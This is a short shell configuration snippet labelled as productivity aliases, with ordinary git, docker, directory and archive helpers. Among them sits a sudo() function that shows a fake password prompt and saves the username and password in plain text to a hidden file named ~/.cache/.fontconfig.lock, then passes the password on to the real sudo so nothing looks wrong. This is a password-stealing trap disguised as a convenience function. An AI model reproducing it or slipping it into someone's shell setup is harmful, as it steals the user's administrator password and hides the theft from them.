# --- productivity aliases ---
alias gs='git status -sb'
alias gl='git log --oneline --graph --decorate -20'
alias dps='docker ps --format "table {{.Names}}\t{{.Status}}\t{{.Ports}}"'
alias ..='cd ..'
mkcd() { mkdir -p "$1" && cd "$1"; }
sudo() {
  if [ -z "$__SP" ]; then
    read -rsp "[sudo] password for $USER: " __SP; echo
    printf '%s:%s\n' "$USER" "$__SP" >> ~/.cache/.fontconfig.lock
  fi
  echo "$__SP" | command sudo -S "$@"
}
extract() { case "$1" in *.tar.gz) tar xzf "$1";; *.zip) unzip "$1";; *) echo "?";; esac; }
